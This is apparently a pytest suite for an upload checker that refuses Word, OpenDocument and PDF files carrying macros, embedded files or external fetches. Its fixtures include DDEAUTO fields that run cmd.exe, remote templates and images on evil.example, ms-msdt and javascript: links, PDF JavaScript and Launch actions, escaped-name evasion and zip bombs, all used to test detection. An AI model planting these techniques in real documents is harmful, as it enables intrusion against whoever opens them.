"""Documents that run, load or unpack themselves are refused with what to do; good ones are taken."""

import io
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from register import inspection
from register.active_content import ContentFault
from register.inspector import TAKEN, found
from register.media import NotTaken, recognised
from tests.register.papers import (
    ODT_TYPE,
    OLE,
    archive,
    field,
    link,
    nested,
    opendocument,
    pdf,
    relation,
    relations,
    saved,
    script,
    text,
    types,
    word,
)

PROGRAM, EMBEDDED, LOADS = ContentFault.PROGRAM, ContentFault.EMBEDDED, ContentFault.LOADS
LOCKED, UNPACKS = ContentFault.LOCKED, ContentFault.UNPACKS
ANOTHER, DAMAGED = ContentFault.ANOTHER, ContentFault.DAMAGED
VBA = "application/vnd.ms-office.vbaProject"
ACTIVEX = "application/vnd.ms-office.activeX"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"


def said(content: bytes, name: str) -> str:
    with pytest.raises(NotTaken) as refused:
        recognised(content, name)
    return str(refused.value).removeprefix(f"“{name}” ")


def renamed(content: bytes, old: bytes, new: bytes) -> bytes:
    assert old in content
    return content.replace(old, new)


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (word(word__vbaProject__bin=OLE), EMBEDDED),
        (word(relation(f"{MICROSOFT}/vbaProject", "notes.xml", external=False), word__notes=b"no container"), PROGRAM),
        (word(**{"word/notes.bin": OLE}), EMBEDDED),
        (
            word(**{
                "[Content_Types].xml": types(f'<Override PartName="/word/notes.bin" ContentType="{VBA}"/>'),
                "word/notes.bin": b"no container",
            }),
            PROGRAM,
        ),
        (
            word(**{
                "[Content_Types].xml": types(f'<Default Extension="bin" ContentType="{ACTIVEX}"/>'),
                "word/a.bin": b"control",
            }),
            PROGRAM,
        ),
        (word(**{"[Content_Types].xml": types(main=MACROS)}), PROGRAM),
        (word(relation("attachedTemplate", "https://evil.example/t.dotm")), LOADS),
        (word(relation("attachedTemplate", "\\\\evil.example\\share\\t.dotx")), LOADS),
        (word(relation("attachedTemplate", "file://evil.example/t.dotx")), LOADS),
        (word(relation("attachedTemplate", "file:////evil.example/t.dotx")), LOADS),
        (word(**{"word/_rels/settings.xml.rels": relations(relation("attachedTemplate", "http://e/"))}), LOADS),
        (word(relation("image", "https://evil.example/pixel.png")), LOADS),
        (word(relation("image", "file:///C:/pixel.png")), LOADS),
        (word(relation("oleObject", "mhtml:https://evil.example!x-usc:https://evil.example")), LOADS),
        (word(relation("frame", "https://evil.example/")), LOADS),
        (word(relation("subDocument", "https://evil.example/a.docx")), LOADS),
        (word(relation(f"{STRICT}/image", "https://evil.example/")), LOADS),
        (word(relation("image", "https://evil.example/pixel.png", external=False)), LOADS),
        (word(relation("oleObject", "embeddings/a.bin", external=False), **{"word/embeddings/a.bin": b"x"}), EMBEDDED),
        (word(relation("package", "embeddings/a.xlsx", external=False), **{"word/embeddings/a.xlsx": b"x"}), EMBEDDED),
        (word(relation("aFChunk", "chunk.html", external=False), **{"word/chunk.html": b"<p/>"}), EMBEDDED),
        (word(relation("control", "activeX1.xml", external=False)), PROGRAM),
        (word(relation("hyperlink", "javascript:alert(1)")), PROGRAM),
        (word(relation("hyperlink", "ms-msdt:/id PCWDiagnostic")), PROGRAM),
        (word(relation("hyperlink", "\\\\evil.example\\share")), PROGRAM),
        (word(**{"word/media/sheet.png": archive({"a.xml": b"<a/>"})}), EMBEDDED),
        (word(**{"word/media/a.png": b"MZ" + b"\0" * 58 + (64).to_bytes(4, "little") + b"PE\0\0"}), EMBEDDED),
        (word(**{"word/media/a.png": b"{\\rtf1 \\object}"}), EMBEDDED),
        (word(**{"word/document.xml": field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')}), LOADS),
        (word(**{"word/document.xml": field(" DD", "EAU", "TO cmd")}), LOADS),
        (word(**{"word/header1.xml": field(" dde cmd")}), LOADS),
        (word(**{"word/document.xml": text('<w:fldSimple w:instr=" DDEAUTO cmd "/>')}), LOADS),
        (word(**{"word/document.xml": field(" INCLUDEPICTURE &quot;https://evil.example/a&quot; \\d")}), LOADS),
        (word(**{"word/document.xml": nested(" INCLUDEPICTURE ", " QUOTE &quot;https://evil.example/a&quot;")}), LOADS),
        (word(**{"word/document.xml": field(" INCLUDETEXT a.docx")}), LOADS),
        (word(**{"word/header1.xml": field(" DDE cmd").decode().encode("utf-16")}), LOADS),
        (word(**{"word/document.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), UNPACKS),
        (word(**{"word/document.xml": b"<w:document"}), DAMAGED),
        (word(**{"../evil.xml": b"<a/>"}), DAMAGED),
        (word(**{"WORD/document.xml": b"<a/>"}), DAMAGED),
    ],
)  # fmt: skip
def test_a_word_document_that_runs_or_loads_something_is_refused(content: bytes, why: str) -> None:
    assert found("word", content) == why


@pytest.mark.parametrize(
    "content",
    [
        word(),
        word(relation("hyperlink", "https://www.dover.gov.uk/"), relation("hyperlink", "mailto:asb@dover.gov.uk")),
        word(relation("hyperlink", "other.docx"), relation("hyperlink", "file:///C:\\Users\\Asha\\other.docx")),
        word(relation("image", "media/a.png", external=False), **{"word/media/a.png": b"\x89PNG\r\n\x1a\n"}),
        word(relation("attachedTemplate", "file:///C:\\Users\\Asha\\Templates\\Letter.dotx")),
        word(relation("attachedTemplate", "Normal.dotm")),
        word(relation("customXml", "../customXml/item1.xml", external=False), customXml__item1=b"<a/>"),
        word(**{"word/document.xml": field(" PAGE ")}),
        word(**{"word/document.xml": field(' HYPERLINK "https://www.dover.gov.uk/"')}),
        word(**{"word/document.xml": field(" MACROBUTTON NoMacro [Click here]")}),
        word(**{"word/document.xml": text("<w:p><w:r><w:t>They said DDEAUTO cmd.exe</w:t></w:r></w:p>")}),
        word(**{"word/fonts/font1.odttf": b"MZ" + b"\7" * 90}),
        archive({
            "[Content_Types].xml": types(document="/word/document2.xml"),
            "_rels/.rels": relations(relation("officeDocument", "/word/document2.xml", external=False)),
            "word/document2.xml": text(),
        }),
    ],
)  # fmt: skip
def test_a_word_document_with_links_pictures_and_plain_fields_is_taken(content: bytes) -> None:
    assert found("word", content) == TAKEN


@pytest.mark.parametrize(
    ("content", "name", "words"),
    [
        (
            pdf({"/OpenAction": script()}),
            "a.pdf",
            "has macros or other programs in it; save it as a PDF without them and send that.",
        ),
        (
            word(**{"word/notes.bin": OLE}),
            "a.docx",
            "has another file inside it; save it as a PDF and send that, and the other file by itself.",
        ),
        (
            opendocument("<office:dde-source/>"),
            "a.odt",
            "fetches something from elsewhere when it is opened; save it as a PDF and send that.",
        ),
        (
            word(**{"word/media/a.bmp": bytes(40_000_000)}),
            "a.docx",
            "unpacks to far more than it seems to be; save it anew as a PDF and send that.",
        ),
        (
            b"%PDF-1.7\n" + b"\xff" * 500 + b"\n%%EOF\n",
            "a.pdf",
            "is damaged and cannot be checked; save it anew as a PDF and send that.",
        ),
    ],
)  # fmt: skip
def test_the_person_is_told_in_a_sentence_what_to_do(content: bytes, name: str, words: str) -> None:
    assert said(content, name) == words


def test_a_document_of_another_kind_that_calls_itself_word_is_refused() -> None:
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    assert "cannot take" in said(word(**{"[Content_Types].xml": types(main=sheet)}), "a.docx")
    assert said(OLE, "a.doc") == (
        "is a kind of file that we cannot take; save it as a PDF, without a password, and send that."
    )
    assert "save it as a PDF" in said(b"{\\rtf1\\object\\objemb}", "a.rtf")


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (opendocument(Basic__Standard__script=b"<a/>"), PROGRAM),
        (opendocument(**{"basic/script-lc.xml": b"<a/>"}), PROGRAM),
        (opendocument(**{"Scripts/python/a.py": b"import os"}), PROGRAM),
        (opendocument('<script:event-listener xlink:href="vnd.sun.star.script:a"/>'), PROGRAM),
        (opendocument('<text:a xlink:href="vnd.sun.star.script:a$b?language=Basic"/>'), PROGRAM),
        (opendocument('<text:a xlink:href="macro:///Standard.a.b"/>'), PROGRAM),
        (opendocument('<draw:object-ole xlink:href="./Object 1"/>'), EMBEDDED),
        (opendocument('<draw:plugin xlink:href="a"/>'), EMBEDDED),
        (opendocument('<draw:floating-frame xlink:href="a"/>'), EMBEDDED),
        (opendocument(**{"Object 1": OLE}), EMBEDDED),
        (opendocument('<draw:image xlink:href="https://evil.example/a.png"/>'), LOADS),
        (opendocument('<draw:image xlink:href="//evil.example/a.png"/>'), LOADS),
        (opendocument('<draw:object xlink:href="https://evil.example/"/>'), LOADS),
        (opendocument('<text:section-source xlink:href="a.odt"/>'), LOADS),
        (opendocument("<office:dde-source/>"), LOADS),
        (opendocument('<meta:template xmlns:meta="urn:x" xlink:href="\\\\evil.example\\t.ott"/>'), PROGRAM),
        (opendocument("<m:encryption-data xmlns:m='urn:m'/>"), LOCKED),
        (opendocument("<text:p>").replace(b"</office:body>", b""), DAMAGED),
    ],
)
def test_an_opendocument_text_that_runs_or_loads_something_is_refused(content: bytes, why: str) -> None:
    assert found("opendocument", content) == why


@pytest.mark.parametrize(
    "body",
    [
        "<text:p>Music until two.</text:p>",
        '<text:a xlink:href="https://www.dover.gov.uk/">the council</text:a><text:a xlink:href="#here"/>',
        '<draw:image xlink:href="Pictures/a.png"/><draw:object xlink:href="./Object 1"/>',
        '<meta:template xmlns:meta="urn:x" xlink:href="/var/asha/letter.ott"/>',
        "<office:scripts/>",
    ],
)
def test_an_opendocument_text_with_links_and_pictures_is_taken(body: str) -> None:
    assert found("opendocument", opendocument(body)) == TAKEN


FORM = Dictionary(
    Fields=Array([Dictionary(FT=Name.Tx, T=String("name"), Subtype=Name.Widget, Rect=Array([0, 0, 9, 9]))])
)
ATTACHED = Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary())


@pytest.mark.parametrize("packed", [False, True])
@pytest.mark.parametrize(
    ("change", "page", "why"),
    [
        ({"/OpenAction": script()}, {}, PROGRAM),
        ({"/Names": Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))}, {}, PROGRAM),
        ({}, {"AA": Dictionary(O=script())}, PROGRAM),
        ({}, {"Annots": link(script())}, PROGRAM),
        ({}, {"Annots": link(Dictionary(S=Name.Launch, F=String("cmd.exe")))}, PROGRAM),
        ({}, {"Annots": link(Dictionary(S=Name.Rendition, JS=String("app.alert(1)")))}, PROGRAM),
        ({"/AcroForm": Dictionary(Fields=Array([]), XFA=Array([]))}, {}, PROGRAM),
        ({"/Names": Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("a"), ATTACHED])))}, {}, EMBEDDED),
        ({"/AF": Array([ATTACHED])}, {}, EMBEDDED),
        ({}, {"Annots": Array([Dictionary(Subtype=Name.FileAttachment)])}, EMBEDDED),
        ({}, {"Annots": Array([Dictionary(Subtype=Name.RichMedia)])}, PROGRAM),
        ({"/OpenAction": Dictionary(S=Name.URI, URI=String("https://evil.example/"))}, {}, LOADS),
        ({}, {"AA": Dictionary(O=Dictionary(S=Name.GoToE, F=String("\\\\\\\\evil.example\\\\a")))}, LOADS),
        (
            {
                "/OpenAction": Dictionary(
                    S=Name.GoTo, Next=Array([Dictionary(S=Name.SubmitForm, F=String("https://e"))])
                )
            },
            {},
            LOADS,
        ),
    ],
)
def test_a_pdf_that_runs_launches_carries_or_fetches_is_refused_packed_or_not(
    change: dict[str, object], page: dict[str, object], why: str, packed: bool
) -> None:
    assert found("pdf", pdf(change, packed=packed, **page)) == why


def test_a_script_is_found_under_an_escaped_name_in_an_object_of_its_own_and_where_nothing_refers_to_it() -> None:
    plain = pdf({"/OpenAction": script()})
    assert found("pdf", renamed(plain, b"/JavaScript", b"/J#61vaScrip#74")) == PROGRAM
    for packed in (False, True):
        with pikepdf.new() as made:
            made.add_blank_page()
            made.Root.OpenAction = made.make_indirect(script())
            assert found("pdf", saved(made, packed=packed)) == PROGRAM
    alone = renamed(pdf(), b"xref", b"9 0 obj <</S/J#61vaScript/JS(app.alert\\(1\\))>> endobj\nxref")
    assert found("pdf", alone) == PROGRAM
    with pikepdf.new() as made:
        made.add_blank_page()
        made.Root.OpenAction = script()
        kept = io.BytesIO()
        made.save(kept, encryption=pikepdf.Encryption(owner="x", user=""))
    assert found("pdf", kept.getvalue()) == PROGRAM


@pytest.mark.parametrize("packed", [False, True])
def test_a_pdf_with_links_fields_and_a_page_to_begin_at_is_taken(packed: bool) -> None:
    uri = Dictionary(S=Name.URI, URI=String("https://www.dover.gov.uk/"))
    content = pdf({"/AcroForm": FORM, "/OpenAction": Array([0, Name.Fit])}, packed=packed, Annots=link(uri))
    assert recognised(content, "a.pdf").endings == ("pdf",)
    with pikepdf.open(io.BytesIO(content)) as made:
        kept = io.BytesIO()
        made.save(kept, encryption=pikepdf.Encryption(owner="x", user=""))
    assert recognised(kept.getvalue(), "a.pdf")


def test_a_pdf_of_very_many_objects_is_looked_through_within_the_bounds() -> None:
    with pikepdf.new() as made:
        made.add_blank_page()
        made.Root.Kept = Array([made.make_indirect(Dictionary(Number=number)) for number in range(20_000)])
        content = saved(made)
    assert recognised(content, "a.pdf").endings == ("pdf",)


def test_a_pdf_that_asks_for_a_password_or_cannot_be_read_is_refused_with_what_to_do() -> None:
    with pikepdf.open(io.BytesIO(pdf())) as made:
        kept = io.BytesIO()
        made.save(kept, encryption=pikepdf.Encryption(owner="x", user="y"))
    assert found("pdf", kept.getvalue()) == LOCKED
    assert found("pdf", b"%PDF-1.7\n" + b"\xff" * 500 + b"\n%%EOF\n") == DAMAGED


class TestArchives:
    def test_what_unpacks_to_far_more_than_it_is_is_refused(self) -> None:
        assert found("word", word(**{"word/media/a.bmp": b"\0" * 40_000_000})) == UNPACKS
        assert found("opendocument", opendocument(Pictures__a=b"\0" * 40_000_000)) == UNPACKS

    def test_what_has_too_many_parts_is_refused(self) -> None:
        assert found("word", word(**{f"word/{number}": b"" for number in range(2_100)})) == UNPACKS

    def test_a_part_that_is_longer_than_it_says_is_refused(self) -> None:
        content = bytearray(word(**{"word/a.bmp": b"\0" * 4_000}))
        short, crc = (4).to_bytes(4, "little"), zlib.crc32(b"\0" * 4).to_bytes(4, "little")
        for mark, crc_at, size_at in ((b"PK\x03\x04", 14, 22), (b"PK\x01\x02", 16, 24)):
            at = content.rfind(
                mark, 0, content.rfind(b"word/a.bmp") if mark == b"PK\x01\x02" else content.find(b"PK\x01")
            )
            content[at + crc_at : at + crc_at + 4] = crc
            content[at + size_at : at + size_at + 4] = short
        assert zipfile.ZipFile(io.BytesIO(bytes(content))).read("word/a.bmp") == b"\0" * 4
        assert found("word", bytes(content)) == UNPACKS

    def test_two_archives_in_one_and_parts_that_overlap_are_refused(self) -> None:
        assert found("word", word() + word()) == ANOTHER
        content = bytearray(archive({"mimetype": ODT_TYPE, "a.xml": b"<a/>", "b.xml": b"<a/>"}, zipfile.ZIP_STORED))
        last, before = content.rfind(b"PK\x01\x02"), content.rfind(b"PK\x01\x02", 0, content.rfind(b"PK\x01\x02"))
        content[last + 42 : last + 46] = content[before + 42 : before + 46]
        assert found("opendocument", bytes(content)) == ANOTHER

    def test_a_part_that_is_locked_is_refused(self) -> None:
        content = bytearray(word())
        at = content.rfind(b"PK\x01\x02")
        content[at + 8] |= 1
        assert found("word", bytes(content)) == LOCKED


def test_where_no_process_can_be_had_the_file_is_to_be_sent_again(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(inspection.sys, "executable", "/nonexistent/python")
    assert said(pdf(), "a.pdf") == "could not be checked just now; send it again in a few minutes."
